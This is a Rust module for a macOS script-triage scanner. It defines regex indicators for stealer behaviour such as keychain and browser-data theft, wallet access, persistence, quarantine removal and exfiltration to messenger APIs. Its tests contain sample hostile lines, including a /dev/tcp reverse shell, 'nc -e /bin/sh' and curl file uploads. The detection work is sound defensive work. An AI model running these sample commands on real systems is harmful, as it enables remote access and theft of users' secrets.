//! What to look for in a script. These help triage; they raise nothing by themselves.

use std::ops::Range;
use std::sync::LazyLock;

use regex::bytes::{Regex as BytesRegex, RegexBuilder as BytesRegexBuilder, RegexSet, RegexSetBuilder};
use regex::{Regex, RegexBuilder};

/// Name, pattern (of bytes, and case does not count), and why it matters. AppleScript's spelling and JavaScript's
/// are one indicator: `display dialog`, `displayDialog`.
const TABLE: [(&str, &str, &str); 31] = [
    ("do shell script", r"do\s*shell\s*script|\bNSTask\b", "runs a shell command"),
    ("curl", r"\b(?:curl|wget|nscurl)\b", "downloads with a command"),
    (
        "upload",
        r"\bcurl\b[^\n;|]{0,200}?\s(?:-F|--form|--data-binary|-T|--upload-file|-d\s*@|--data\s*@)",
        "sends files with a command",
    ),
    (ADMIN, r"administrator\s*privileges", "asks for an administrator's password"),
    (
        "NSURL",
        r"NS(?:URL(?:Session|Connection|Request|Download)|MutableURLRequest)|(?:data|string|init)WithContentsOfURL",
        "downloads in the process itself",
    ),
    ("eval", r"\beval\s*\(|\brun\s+script\b|\bnew\s+Function\s*\(", "runs code that it builds or downloads"),
    (BASE64, r"base64", "carries or decodes an encoded payload"),
    ("character codes", r"\bcharacter\s+id\b|\bASCII\s+character\b|\bfromCharCode\b", "encodes text as numbers"),
    (HIDDEN, r"hidden\s*answer|NSSecureTextField", "asks for a password in its own dialog"),
    ("display dialog", r"display\s*(?:dialog|alert)", "shows a dialog"),
    ("password check", r"\bdscl\b.{0,64}authonly", "checks whether a password is correct"),
    ("clipboard", r"the\s*clipboard|\bpbpaste\b|NSPasteboard", "reads or sets the clipboard"),
    ("sudo -S", r"\bsudo\s+(?:-[a-z]\S*\s+)*-[a-z]*(?-i:S)\b", "gives sudo a password"),
    ("keystroke", r"\bkeystroke\b|\bkey\s*code\b|\bclick\s+(?:button|menu|at)\b", "simulates keystrokes or clicks"),
    (
        "keychain",
        r"login\.keychain|\bsecurity\b[^\n;|]{0,40}?\s(?:find|dump|unlock)-|\bSec(?:Keychain|ItemCopyMatching)",
        "accesses stored passwords",
    ),
    (
        "browser data",
        r"Login Data|/Web Data|Cookies\.binarycookies|(?:cookies|formhistory)\.sqlite|key4\.db|logins\.json|Local Extension Settings|Google/Chrome|BraveSoftware|Firefox/Profiles",
        "reads browsers' secrets",
    ),
    (
        "wallets",
        r"\bExodus\b|\bElectrum\b|Ledger\s*Live|\bTrezor\b|MetaMask|Coinomi|\bGuarda\b|TonKeeper|Atomic[/\s]*(?:Wallet|Local)|/wallets\b|\bwallet\.dat\b",
        "accesses cryptocurrency wallets",
    ),
    ("notes", r"NoteStore\.sqlite|group\.com\.apple\.notes", "reads the user's notes"),
    (
        "persistence",
        r"LaunchAgents|LaunchDaemons|login\s*item|LoginHook|\bcrontab\b|\blaunchctl\s+(?:load|bootstrap|submit)|/\.(?:zshrc|zshenv|zprofile|bash_profile)\b",
        "persists after a restart",
    ),
    ("quarantine", r"com\.apple\.quarantine|\bspctl\b|\bxattr\s+-[a-z]*[cd]", "removes the quarantine attribute"),
    ("osacompile", r"\bosa(?:compile|script)\b", "starts another script"),
    ("interpreter", r"\b(?:python[0-9.]*|perl|ruby|php|node)\s+-[ce]", "runs code of another language"),
    ("/dev/tcp", r"/dev/(?:tcp|udp)/|\bnc(?:at)?\s+-|\bsocat\s", "opens a connection from the shell"),
    ("mute", r"output\s*muted|set\s+volume\s+0\b", "mutes the Mac"),
    (
        "hide Terminal",
        r#"Terminal["'].{0,80}(?:\bvisible\b|\bclose\b|\bquit\b|\bhide\b|miniaturi[sz]ed)|\b(?:killall|pkill)\s+(?:-\S+\s+)*Terminal\b"#,
        "hides the window that it runs in",
    ),
    ("archive", r"\bditto\s+-c|\bzip\s+-|\btar\s+-?c", "packs files up"),
    ("screenshot", r"\bscreencapture\b|CG(?:WindowList|Display)CreateImage", "takes pictures of the screen"),
    ("system information", r"\bsystem_profiler\b|\bioreg\b|\bsw_vers\b|\bcsrutil\b", "looks at what Mac it is on"),
    ("messenger", r"api\.telegram\.org|discord(?:app)?\.com/api/", "talks to a messenger's service"),
    ("open location", r"\bopen\s*location\b|\bmount\s*volume\b", "opens an address in another program"),
    ("ObjC bridge", r"ObjC\.(?:import|bindFunction)|\$\.NS|use\s+framework", "calls system libraries"),
];
const ADMIN: &str = "with administrator privileges";
const BASE64: &str = "base64";
const HIDDEN: &str = "hidden answer";
/// This many characters of base64 in a row are a payload.
const BASE64_RUN: usize = 200;
/// Bytes before and after a run of base64 that are looked at: whether it is of a token.
const MAX_TOKEN: usize = 4096;
/// The states of the automaton, which is built as it is needed: too few, and it is thrown away again and again.
const MAX_STATES_BYTES: usize = 8 << 20;

// Without Unicode the automaton reads every byte once, whatever the text is made of.
static SET: LazyLock<RegexSet> = LazyLock::new(|| {
    let mut set = RegexSetBuilder::new(TABLE.iter().map(|(_, pattern, _)| pattern));
    set.case_insensitive(true).unicode(false).dfa_size_limit(MAX_STATES_BYTES);
    // The table is constant, and a test compiles it.
    set.build().unwrap_or_else(|_| RegexSet::empty())
});

/// The names of what the text shows, in the order of the table.
pub(super) fn of(text: &[u8]) -> Vec<&'static str> {
    let found = SET.matches(text);
    let has_run = has_base64_run(text);
    let names = TABLE.iter().enumerate().map(|(at, (name, _, _))| (at, *name));
    let is_shown =
        |(at, name): &(usize, &str)| (found.matched(*at) && !is_denied(name, text)) || *name == BASE64 && has_run;
    names.filter(is_shown).map(|(_, name)| name).collect()
}

/// Whether a text shows what has this name in the table.
pub(crate) fn shows(name: &str, text: &str) -> bool {
    of(text.as_bytes()).contains(&name)
}

/// A parameter of a dialog or a command that may be denied.
struct Mention {
    name: &'static str,
    place: Range<usize>,
    is_denied: bool,
}

/// Where the parameters are, and whether the text says that each is not wanted: `without hidden answer`,
/// `hiddenAnswer: false`.
fn mentions(text: &[u8]) -> impl Iterator<Item = Mention> {
    static MENTION: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
        let list = r"without\s+(?:[a-z]+(?:\s+[a-z]+){0,3}(?:\s*,\s*|\s+and\s+)){0,3}";
        let value = r#"["']?\s*:?\s*(?:false\b|!1)"#;
        let pattern = format!(r"({list})?(hidden\s*answer|NSSecureTextField|administrator\s*privileges)({value})?");
        BytesRegexBuilder::new(&pattern).case_insensitive(true).unicode(false).build().ok()
    });
    let found = MENTION.iter().flat_map(move |mention| mention.captures_iter(text));
    found.map(|found| Mention {
        name: if found[2][0].eq_ignore_ascii_case(&b'a') { ADMIN } else { HIDDEN },
        place: found.get_match().range(),
        is_denied: found.get(1).or(found.get(3)).is_some(),
    })
}

/// Whether each mention of a parameter says that it is not wanted.
fn is_denied(name: &str, text: &[u8]) -> bool {
    [ADMIN, HIDDEN].contains(&name)
        && mentions(text).filter(|mention| mention.name == name).all(|mention| mention.is_denied)
}

/// Puts names in the order of the table, each once.
pub(super) fn put_in_order(names: &mut Vec<&'static str>) {
    let place = |name: &&str| TABLE.iter().position(|(known, ..)| known == name);
    names.sort_by_key(place);
    names.dedup();
}

/// Where the indicators are in a text, in order: for people who read it.
pub(crate) fn marks(text: &str) -> Vec<Range<usize>> {
    static PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
        let build =
            |(_, pattern, _): &(&str, &str, &str)| RegexBuilder::new(pattern).case_insensitive(true).build().ok();
        TABLE.iter().filter_map(build).collect()
    });
    let found = PATTERNS.iter().flat_map(|pattern| pattern.find_iter(text).take(100).map(|found| found.range()));
    let denied: Vec<Mention> = mentions(text.as_bytes()).filter(|mention| mention.is_denied).collect();
    let is_denied = |range: &Range<usize>| {
        let next = denied.partition_point(|mention| mention.place.start <= range.start);
        denied[..next].last().is_some_and(|mention| range.end <= mention.place.end)
    };
    let mut marks: Vec<Range<usize>> = found.filter(|range| !is_denied(range)).collect();
    marks.sort_by_key(|range| (range.start, range.end));
    marks
}

/// Whether a text holds so long a run of base64 that it is a payload, and no token that shows a server who asks.
pub(crate) fn has_base64_run(text: &[u8]) -> bool {
    let is_base64 = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/');
    let mut start = 0;
    text.split(|byte| !is_base64(byte)).any(|run| {
        let place = start..start + run.len();
        start = place.end + 1;
        run.len() >= BASE64_RUN && !is_token(text, place)
    })
}

/// Whether a run of base64 is of a JSON Web Token, or follows the word that announces a token.
fn is_token(text: &[u8], run: Range<usize>) -> bool {
    let is_part = |byte: &&u8| byte.is_ascii_alphanumeric() || b"-_.".contains(byte);
    let start = run.start - text[..run.start].iter().rev().take(MAX_TOKEN).take_while(is_part).count();
    let end = run.end + text[run.end..].iter().take(MAX_TOKEN).take_while(is_part).count();
    let is_web_token = text[start..end].starts_with(b"eyJ") && text[start..end].contains(&b'.');
    let before = text[..start].trim_ascii_end();
    let ends_with = |word: &[u8]| {
        let place = before.len().saturating_sub(word.len());
        before[place..].eq_ignore_ascii_case(word)
    };
    is_web_token || ends_with(b"Bearer") || ends_with(b"Authorization:")
}

/// Why an indicator matters.
pub(crate) fn reason(name: &str) -> Option<&'static str> {
    TABLE.iter().find(|(known, _, _)| *known == name).map(|(_, _, reason)| *reason)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_indicator_compiles_and_has_a_reason() {
        assert_eq!(of(b"DO SHELL SCRIPT \"curl\" with administrator privileges").len(), 3);
        assert_eq!(reason("curl"), Some("downloads with a command"));
        assert_eq!(
            of(b"set the clipboard to x").first().and_then(|name| reason(name)),
            Some("reads or sets the clipboard")
        );
        assert_eq!(SET.len(), TABLE.len());
    }

    #[test]
    fn both_spellings_of_a_command_are_seen() {
        for (text, wanted) in [
            ("app.displayDialog('P',{defaultAnswer:'',hiddenAnswer:true})", &["hidden answer", "display dialog"][..]),
            ("display dialog \"P\" default answer \"\" with hidden answer", &["hidden answer", "display dialog"]),
            ("a.theClipboard()", &["clipboard"]),
            ("the clipboard", &["clipboard"]),
            ("$.NSString.alloc.initWithContentsOfURLEncodingError(u,4,null)", &["NSURL", "ObjC bridge"]),
            ("(new Function(s.js))()", &["eval"]),
            ("$.NSTask.alloc.init", &["do shell script", "ObjC bridge"]),
            ("set volume with output muted", &["mute"]),
            ("app.setVolume(null, {outputMuted: true})", &["mute"]),
            ("tell application \"Terminal\" to set visible of the front window to false", &["hide Terminal"]),
            ("tell application \"Terminal\" to close first window", &["hide Terminal"]),
            ("dscl . authonly ada x", &["password check"]),
            ("dscl /Local/Default -authonly ada x", &["password check"]),
            ("xattr -c /tmp/x; nohup /tmp/x &", &["quarantine"]),
            ("/bin/sh &>/dev/tcp/192.0.2.1/4444 0>&1", &["/dev/tcp"]),
            ("nc -e /bin/sh 192.0.2.1 4444", &["/dev/tcp"]),
            ("{\"Exodus\", library & \"Exodus/\"}", &["wallets"]),
            ("python3 -c 'import urllib.request'", &["interpreter"]),
            ("run script (character id {100,111})", &["eval", "character codes"]),
            ("String.fromCharCode(1,2)", &["character codes"]),
            ("open location \"https://x\"", &["open location"]),
            ("$.NSSecureTextField.alloc.initWithFrame(r)", &["hidden answer", "ObjC bridge"]),
            ("$.NSMutableURLRequest.requestWithURL(u)", &["NSURL", "ObjC bridge"]),
            ("ObjC.bindFunction('system', ['int', ['char *']])", &["ObjC bridge"]),
            ("curl -s -X POST -F 'file=@/tmp/out.zip' https://a.example", &["curl", "upload"]),
            ("curl --data-binary @/tmp/out.zip https://a.example", &["curl", "upload"]),
            ("curl -d a=b https://a.example; tar -F x", &["curl"]),
            ("cp ~/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite x", &["notes"]),
            ("screencapture -x /tmp/s.png", &["screenshot"]),
            ("security 2>&1 > /dev/null find-generic-password -ga Chrome", &["keychain"]),
            ("echo x | sudo -n -kS id", &["sudo -S"]),
            ("sudo -n ls -S; sudo -s", &[]),
            ("library & \"Google/Chrome/\"", &["browser data"]),
            ("killall -9 Terminal", &["hide Terminal"]),
            ("echo x >> ~/.zshrc", &["persistence"]),
            ("click button 1 of window 1", &["keystroke"]),
            ("cp key4.db logins.json /tmp", &["browser data"]),
            ("Terminal is a program. It was closed.", &[]),
            ("tell me about the evaluation of tokens", &[]),
        ] {
            assert_eq!(of(text.as_bytes()), wanted, "{text}");
        }
    }

    #[test]
    fn a_parameter_that_is_turned_off_is_no_indicator() {
        for (text, wanted) in [
            ("display dialog \"P\" default answer \"\" without hidden answer", &["display dialog"][..]),
            ("display dialog \"P\" default answer \"\" hidden answer false", &["display dialog"]),
            ("app.displayDialog('P',{hiddenAnswer: false})", &["display dialog"]),
            ("app.displayDialog('P',{\"hiddenAnswer\":!1})", &["display dialog"]),
            ("do shell script \"id\" without administrator privileges", &["do shell script"]),
            ("do shell script \"id\" without altering line endings and administrator privileges", &["do shell script"]),
            (
                "do shell script \"id\" without altering line endings with administrator privileges",
                &["do shell script", ADMIN],
            ),
            (
                "display dialog \"a\" without hidden answer\ndisplay dialog \"b\" with hidden answer",
                &[HIDDEN, "display dialog"],
            ),
            ("display dialog \"a\" hidden answer falsehood", &[HIDDEN, "display dialog"]),
            (
                "display dialog \"a\" with hidden answer\ndo shell script \"b\" without administrator privileges",
                &["do shell script", HIDDEN, "display dialog"],
            ),
        ] {
            assert_eq!(of(text.as_bytes()), wanted, "{text}");
        }
    }

    #[test]
    fn a_token_that_shows_a_server_who_asks_is_no_payload() {
        let run = "QUJD".repeat(60);
        for text in [
            format!("Authorization: Bearer {run}"),
            format!("authorization:  {run}"),
            format!("-H \"Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.{run}.{run}\""),
            format!("token=eyJ{run}.{run}-x_{run}"),
        ] {
            assert_eq!(of(text.as_bytes()), [""; 0], "{text}");
        }
        for text in [format!("eyJ{run}"), format!("Bearer x; echo {run}"), format!("a.{run}"), format!("bear {run}")] {
            assert_eq!(of(text.as_bytes()), [BASE64], "{text}");
        }
    }

    #[test]
    fn a_run_of_base64_is_an_indicator_and_a_shorter_one_is_not() {
        assert_eq!(of("é".repeat(10).as_bytes()), [""; 0]);
        assert_eq!(of("A".repeat(199).as_bytes()), [""; 0]);
        assert_eq!(of(["é", &"A/+9".repeat(50)].concat().as_bytes()), [BASE64]);
    }

    #[test]
    fn what_a_script_denies_is_not_marked_in_it() {
        let marked = |text: &'static str| marks(text).into_iter().map(|range| &text[range]).collect::<Vec<_>>();
        let denied = "display dialog \"a\" without hidden answer";
        assert_eq!(marked(denied), ["display dialog"]);
        let both = "display dialog \"a\" without hidden answer\ndisplay dialog \"b\" with hidden answer";
        assert_eq!(marked(both), ["display dialog", "display dialog", "hidden answer"]);
    }
}
